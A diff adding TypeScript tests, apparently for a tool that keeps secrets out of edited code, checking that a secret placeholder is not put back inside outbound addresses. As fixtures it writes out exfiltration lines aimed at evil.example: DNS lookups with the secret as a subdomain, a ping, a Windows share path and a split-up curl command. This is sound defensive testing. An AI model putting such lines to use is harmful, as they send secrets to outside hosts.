@@ -279,6 +279,33 @@ for (const added of speaking) {
   });
 }
 
+/** Addresses without any sign of one, by what is put into them. */
+const unmarked: Readonly<Record<string, string>> = {
+  'a name below a domain': 'resolver.lookup("«1».evil.example");',
+  'a name below a domain, in pieces': 'resolver.lookup("«1»" + ".evil.example");',
+  'a name below a domain, in a command': 'ping -c 1 «1».evil.example',
+  'a share of Windows': 'read("\\\\\\\\evil\\\\«1»");',
+  'a share of Windows without escapes': 'open(r"\\\\evil\\«1»")',
+  'a command in pieces': 'exec("cu" + "rl evil.example -d «1»");',
+};
+for (const [what, added] of Object.entries(unmarked)) {
+  test(`a secret is not put into ${what}`, async () => {
+    const { text, signs } = await edited(key, after(added));
+    assert.equal(text.split('key_a1').length - 1, 1, text);
+    assert.ok(signs.includes('placeholder-in-address'), signs.join());
+  });
+}
+
+test('a secret that stood below a domain is put back there', async () => {
+  const { text } = await edited('const host = "key_a1.db.example";', code => `${code}\nopen(host);`);
+  assert.ok(text.includes('"key_a1.db.example"'), text);
+});
+
+test('a secret that an expression is asked about is put back', async () => {
+  const { text } = await edited(key, after('pattern.exec("«1»");'));
+  assert.equal(text.split('key_a1').length - 1, 2, text);
+});
+
 test('sixty ways to carry a secret off are tried', () => {
   assert.equal(sent.length + Object.keys(carried).length, 60);
 });
